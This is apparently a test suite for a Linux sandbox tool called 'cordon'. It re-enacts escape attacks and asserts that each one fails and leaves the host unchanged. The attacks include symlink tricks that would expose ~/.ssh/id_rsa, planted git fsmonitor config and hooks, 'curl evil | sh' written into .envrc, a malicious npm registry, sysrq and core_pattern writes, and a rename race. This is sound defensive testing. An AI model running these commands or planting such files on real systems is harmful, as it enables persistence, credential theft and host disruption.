import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { makeHostFixture, PLANTED_KEY, snapshotTree, text, type HostFixture } from "../helpers/host-fixture.js";

/**
 * Escapes found by attackers who had not read this suite (issue 10). Each
 * test is the attack as they ran it; it asserts the attack failed and the
 * host is unchanged. The suite runs as root and again as an ordinary user
 * (scripts/test-as-user.sh): the two paths differ in most of these.
 */
const PYTHON = "/usr/bin/python3";
const noPython = !fs.existsSync(PYTHON) && "needs /usr/bin/python3";
const isRoot = process.getuid?.() === 0;
const KEY_MARK = PLANTED_KEY.split("\n")[1] ?? "planted";

describe("attack: escapes through planted links, the host kernel and races", () => {
  let host: HostFixture;
  before(() => {
    host = makeHostFixture();
  });
  after(() => host.cleanup());

  for (const [protectedName, toParent] of [[".git", ".."], [".husky", ".."], [".github/workflows", "../.."]] as const) {
    test(`a ${protectedName} planted as a symlink to the project's parent does not mount it into the next sandbox`, async () => {
      // The project's parent holds the fixture's home folder, as ~/proj's does.
      const project = fs.mkdtempSync(path.join(host.root, "linked-"));
      fs.mkdirSync(path.join(project, ".github"), { recursive: true });
      // First sandbox: plants the link.
      const plant = await host.sh(`ln -s ${toParent} ${protectedName}`, { allowWrite: ["."] }, { hostCwd: project });
      assert.equal(plant.exitCode, 0, text(plant));
      const baseline = host.snapshot();
      // Next sandbox, same grant: reads through the mount the link used to cause.
      const read = await host.sh(`cat ${host.home}/.ssh/id_rsa; ls -a ${host.home}`, { allowWrite: ["."] }, { hostCwd: project });
      assert.ok(!text(read).includes(KEY_MARK), `the home folder was mounted: ${text(read)}`);
      assert.doesNotMatch(text(read), /\.npmrc/);
      assert.deepEqual(host.snapshot(), baseline);
    });
  }

  test("an existing nested .git, .husky, .vscode or .envrc below a writable grant stays read-only", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "nested-"));
    for (const dir of ["src/.git/hooks", "lib/.husky", "tools/.vscode"]) fs.mkdirSync(path.join(project, dir), { recursive: true });
    fs.writeFileSync(path.join(project, "src/.git/config"), "[core]\n");
    fs.writeFileSync(path.join(project, "pkg.envrc"), "");
    fs.mkdirSync(path.join(project, "app"));
    fs.writeFileSync(path.join(project, "app/.envrc"), "export A=1\n");
    const baseline = snapshotTree(project);
    const result = await host.sh([
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/.git/config",
      "echo evil > src/.git/hooks/post-checkout", "echo evil > lib/.husky/pre-commit",
      "echo '{}' > tools/.vscode/tasks.json", "echo 'curl evil | sh' >> app/.envrc",
      "mv src/.git src/.git-old; true",
    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
    assert.deepEqual(snapshotTree(project), baseline, text(result));
  });

  test("persistence files a sandbox creates anywhere below a writable grant are reported when it ends", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "planted-"));
    fs.mkdirSync(path.join(project, "src/deep"), { recursive: true });
    fs.writeFileSync(path.join(project, "notes.txt"), "x\n");
    const result = await host.sh([
      "mkdir -p src/deep/.git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/deep/.git/config",
      "echo 'ref: refs/heads/main' > src/deep/.git/HEAD",
      "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
      "echo 'curl evil | sh' > src/.envrc", "echo registry=http://evil > src/.npmrc",
      "echo harmless >> notes.txt",
    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
    assert.equal(result.exitCode, 0, text(result));
    const reported = result.persistence.map((p) => `${p.change} ${path.relative(project, p.path)}`).sort();
    assert.deepEqual(reported, [
      "created .vscode/tasks.json", "created src/.envrc", "created src/.npmrc",
      "created src/deep/.git/HEAD", "created src/deep/.git/config",
    ].sort());
  });

  test("the CLI names planted persistence files on stderr and in --audit", () => {
    const project = fs.mkdtempSync(path.join(host.root, "planted-cli-"));
    const audit = path.join(host.root, "planted.audit");
    const cli = path.resolve("dist/src/cli/main.js");
    const result = spawnSync(process.execPath, [cli, "run", "--allow-write=.", `--audit=${audit}`, "--", "sh", "-c", "mkdir -p a/.git/hooks && echo x > a/.git/hooks/pre-commit"], {
      env: host.env, cwd: project, encoding: "utf8",
    });
    assert.match(result.stderr, /created\s+\S*a\/\.git\/hooks\/pre-commit/);
    const lines = fs.readFileSync(audit, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { type: string; path: string });
    assert.ok(lines.some((l) => l.type === "persistence" && l.path.endsWith("a/.git/hooks/pre-commit")));
  });

  test("a .husky link to the host's /tmp does not expose the host's sockets", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "linked-tmp-"));
    const marker = fs.mkdtempSync(path.join(os.tmpdir(), "cordon-host-tmp-marker-"));
    try {
      fs.symlinkSync(path.relative(project, os.tmpdir()), path.join(project, ".husky"));
      const result = await host.sh(`ls ${os.tmpdir()}`, { allowWrite: ["."] }, { hostCwd: project });
      assert.ok(!result.stdout.toString().includes(path.basename(marker)), text(result));
    } finally {
      fs.rmSync(marker, { recursive: true, force: true });
    }
  });

  /** Puts a host sysctl back if an attack got through, so a failing run leaves the machine as it was. */
  const restoreSysctl = (file: string, value: string): boolean => {
    if (fs.readFileSync(file, "utf8") === value) return false;
    fs.writeFileSync(file, value);
    return true;
  };

  test("the host kernel's settings under /proc are read-only and its private files are masked", async () => {
    const before = fs.readFileSync("/proc/sys/kernel/core_uses_pid", "utf8");
    const flipped = before.trim() === "0" ? "1" : "0";
    const script = [
      `echo ${flipped} > /proc/sys/kernel/core_uses_pid && echo WROTE-SYSCTL`,
      "echo b > /proc/sysrq-trigger 2>/dev/null && echo WROTE-SYSRQ",
      // Every file anyone in the sandbox could write under /proc and /sys,
      // except the sandbox's own processes (theirs to change).
      "find /proc /sys -writable ! -path '/proc/[0-9]*' ! -path '/proc/self/*' ! -path '/proc/thread-self/*' ! -type d 2>/dev/null | sed 's/^/WRITABLE /'",
      "find /proc /sys -writable -type d ! -path '/proc/[0-9]*' ! -path '/proc/self*' ! -path '/proc/thread-self*' 2>/dev/null | sed 's/^/WRITABLE-DIR /'",
      "for f in /proc/keys /proc/timer_list /proc/sched_debug /proc/kmsg; do [ -s $f ] && echo READABLE $f; done; true",
    ].join("\n");
    const result = await host.sh(script);
    assert.equal(restoreSysctl("/proc/sys/kernel/core_uses_pid", before), false, "the host's sysctl changed");
    const out = result.stdout.toString();
    assert.doesNotMatch(out, /WROTE/);
    assert.deepEqual(out.split("\n").filter((l) => l.startsWith("WRITABLE")), [], out);
    assert.doesNotMatch(out, /READABLE/);
  });

  test("a granted folder swapped for a link to the home folder while the sandbox starts is never mounted", { skip: noPython }, async () => {
    const race = fs.mkdtempSync(path.join(host.root, "race-"));
    const granted = path.join(race, "d");
    fs.mkdirSync(granted);
    fs.writeFileSync(path.join(granted, "ordinary.txt"), "ok\n");
    fs.symlinkSync(host.home, path.join(race, "link"));
    // renameat2(RENAME_EXCHANGE) swaps d and link atomically, as fast as it can.
    const nr = process.arch === "x64" ? 316 : 276;
    const swapper = spawn(PYTHON, ["-c", [
      "import ctypes, sys",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "a, b = sys.argv[1].encode(), sys.argv[2].encode()",
      "while True: libc.syscall(" + nr + ", -100, a, -100, b, 2)",
    ].join("\n"), granted, path.join(race, "link")], { stdio: "ignore" });
    let escaped = 0;
    let ran = 0;
    try {
      for (let i = 0; i < 60; i += 1) {
        try {
          const result = await host.sh(`ls -a ${granted}`, { allowRead: [granted] });
          ran += 1;
          if (/\.ssh|\.npmrc/.test(result.stdout.toString())) escaped += 1;
        } catch {
          // Refused: either the check saw the link, or the pinned descriptor
          // no longer matched the checked path. Both are the right answer.
        }
      }
    } finally {
      swapper.kill("SIGKILL");
    }
    assert.equal(escaped, 0, `the home folder was mounted in ${escaped} of ${ran} runs`);
  });

  test("only the socket families a sandbox needs: vsock, packet, alg and non-route netlink are refused", { skip: noPython }, async () => {
    const script = [
      "import socket",
      "for name, fam, typ, proto in [('vsock', 40, 1, 0), ('packet', 17, 3, 0), ('alg', 38, 5, 0), ('netlink-audit', 16, 3, 9),",
      "                              ('unix', 1, 1, 0), ('inet', 2, 1, 0), ('inet6', 10, 1, 0), ('netlink-route', 16, 3, 0)]:",
      "    try:",
      "        socket.socket(fam, typ, proto).close(); print(name, 'open')",
      "    except OSError as e:",
      "        print(name, e.errno)",
    ].join("\n");
    fs.writeFileSync(path.join(host.project, "families.py"), script);
    const out = (await host.sh(`${PYTHON} families.py`, { allowRead: ["."] })).stdout.toString();
    for (const refused of ["vsock", "packet", "alg", "netlink-audit"]) assert.match(out, new RegExp(`^${refused} 97$`, "m"), out);
    for (const allowed of ["unix", "inet", "inet6", "netlink-route"]) assert.match(out, new RegExp(`^${allowed} open$`, "m"), out);
  });

  test("a process cannot take a sibling's descriptors with pidfd_getfd", { skip: noPython || process.arch !== "x64" }, async () => {
    const script = [
      "import ctypes, os, subprocess",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "child = subprocess.Popen(['sleep', '5'])",
      "pidfd = libc.syscall(434, child.pid, 0)",
      "ctypes.set_errno(0)",
      "r = libc.syscall(438, pidfd, 0, 0)",
      "print('getfd', r, ctypes.get_errno())",
      "child.kill()",
    ].join("\n");
    fs.writeFileSync(path.join(host.project, "getfd.py"), script);
    const out = (await host.sh(`${PYTHON} getfd.py`, { allowRead: ["."] })).stdout.toString();
    assert.match(out, /^getfd -1 1$/m, out);
  });

  test("memory held through memfd does not escape --memory", { skip: noPython }, async () => {
    const script = [
      "import os",
      "try:",
      "    fd = os.memfd_create('hoard')",
      "except OSError as e:",
      "    print('memfd refused', e.errno); raise SystemExit(3)",
      "chunk = b'x' * (1 << 20)",
      "for _ in range(400): os.write(fd, chunk)",
      "print('HELD 400 MiB')",
    ].join("\n");
    fs.writeFileSync(path.join(host.project, "hoard.py"), script);
    const result = await host.sh(`${PYTHON} hoard.py`, { allowRead: ["."], memory: "100M" });
    assert.doesNotMatch(result.stdout.toString(), /HELD/, text(result));
    assert.notEqual(result.exitCode, 0);
  });

  test("a bwrap planted in a writable folder on $PATH is not the one cordon runs", () => {
    const evil = fs.mkdtempSync(path.join(host.root, "evil-bin-"));
    const marker = path.join(evil, "ran");
    fs.writeFileSync(path.join(evil, "bwrap"), `#!/bin/sh\ntouch ${marker}\nexit 0\n`, { mode: 0o755 });
    const cli = path.resolve("dist/src/cli/main.js");
    const result = spawnSync(process.execPath, [cli, "run", "--", "true"], {
      env: { ...host.env, PATH: `${evil}:${process.env.PATH ?? ""}` },
      cwd: host.project,
      encoding: "utf8",
    });
    assert.equal(result.status, 0, result.stderr);
    assert.ok(!fs.existsSync(marker), "cordon ran the planted bwrap");
  });

  test("as root, the sandbox's uid 0 cannot change host-wide kernel settings through /proc/sys", { skip: !isRoot && "only root's sandbox maps to host uid 0" }, async () => {
    const before = fs.readFileSync("/proc/sys/kernel/core_pattern", "utf8");
    const result = await host.sh("echo '|/bin/false planted' > /proc/sys/kernel/core_pattern; cat /proc/sys/kernel/core_pattern");
    assert.equal(restoreSysctl("/proc/sys/kernel/core_pattern", before), false, "the host's core_pattern changed");
    assert.doesNotMatch(result.stdout.toString(), /planted/);
  });
});
